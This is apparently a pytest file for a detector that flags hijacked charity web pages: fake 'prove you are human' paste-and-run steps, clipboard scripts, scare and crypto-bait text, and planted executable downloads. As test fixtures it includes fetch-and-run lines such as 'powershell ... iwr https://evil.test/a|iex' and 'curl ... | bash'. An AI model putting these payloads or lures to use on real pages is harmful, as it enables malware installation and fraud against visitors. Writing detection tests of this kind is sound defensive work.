"""Swindles laid over a page that is otherwise the charity's, and pages that warn of them."""

from __future__ import annotations

import pytest

from tests.support.judged_pages import judge, link, outcome, page

STEPS = [
    "Verify you are human: press Windows Key + R, then Ctrl + V and Enter.",
    "I'm not a robot. Open Terminal, press Command + V and hit Return.",
    "Vérifiez que vous êtes humain : appuyez sur la touche Windows + R, puis Ctrl + V.",
    "Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie Windows-Taste + R, dann Strg + V.",
    "Подтвердите, что вы человек: нажмите Win + R, затем Ctrl + V.",
    "Verifica que eres humano: pulsa la tecla Windows + R y pega con Ctrl + V.",
]


@pytest.mark.parametrize("words", STEPS)
def test_the_two_steps_of_a_false_bot_check_are_one_on_a_whole_page_too(words: str) -> None:
    assert outcome(page(extra=f"<div>{words}</div>")) == ("hijack_suspect", "fake_check")


@pytest.mark.parametrize(
    "markup",
    [
        "<script>navigator.clipboard.writeText('mshta https://evil.test/v')</script>",
        "<script>navigator.clipboard.writeText('powershell -w hidden iwr https://evil.test/a|iex')</script>",
        "<script>copy(atob('cG93ZXJzaGVsbCAtZW5jIFpBQkE='))</script>",
        "<p>Paste this to go on: <code>curl -s https://evil.test/i.sh | bash</code></p>",
        '<button data-clipboard-text="cmd /c start https://evil.test/x">I am human</button>',
    ],
)
def test_a_command_line_for_the_visitors_computer_is_a_danger(markup: str) -> None:
    assert outcome(page(extra=markup)) == ("hijack_suspect", "fake_check")


@pytest.mark.parametrize(
    "words",
    [
        "WARNING: your computer is infected. Do not shut down. Call the support line.",
        "Click Allow to confirm that you are not a robot",
        "Enter your 12-word recovery phrase to receive aid",
        "Send 1 ETH and receive 2 ETH back",
        "Your browser is out of date. Get the update below.",
    ],
)
def test_frights_and_baits_are_a_danger_on_a_whole_page_too(words: str) -> None:
    assert outcome(page(extra=f"<div>{words}</div>")) == ("hijack_suspect", "scare_page")


@pytest.mark.parametrize(
    "words",
    [
        "Beware of scams: a page that says press Windows + R and then Ctrl + V is not ours.",
        "We will never ask you to enter your recovery phrase or to send 1 ETH and receive 2 back.",
        "To paste your poem press Ctrl + V in the form.",
        "Do not restart the generator before the engineer comes.",
        "We teach teenagers powershell, bash, curl and wget.",
        "Congratulations to the winners of the children's contest!",
    ],
)
def test_a_page_that_warns_or_speaks_of_such_things_is_good(words: str) -> None:
    assert outcome(page(extra=f"<p>{words}</p>"))[0] == "live"


def test_a_warning_in_one_place_excuses_no_swindle_in_another() -> None:
    warning = "<p>Beware of scams: never press Windows + R because a page says so.</p><p>One</p><p>Two</p><p>Three</p>"
    assert outcome(page(extra=warning))[0] == "live"
    assert outcome(page(extra=f"{warning}<p>Four</p><div>{STEPS[0]}</div>")) == ("hijack_suspect", "fake_check")


@pytest.mark.parametrize(
    "markup",
    [
        '<a href="/BrowserUpdate.exe">Update</a>',
        "<script>var a=document.createElement('a');a.href='/Receipt.iso';a.click()</script>",
        '<a href="https://files.charity.test/receipt.hta?x=1">Receipt</a>',
    ],
)
def test_a_program_that_was_not_there_before_is_a_danger(markup: str) -> None:
    assert outcome(page(extra=markup)) == ("hijack_suspect", "download")
    assert judge(page(extra=markup), link(approved=page(extra=markup))).verdict.value == "live"


@pytest.mark.parametrize("path", ["/report.pdf", "/exe", "/executive-board", "/brochure.iso9001", "/file.img.jpg"])
def test_other_files_are_no_programs(path: str) -> None:
    assert outcome(page(extra=f'<a href="{path}">Read</a>'))[0] == "live"
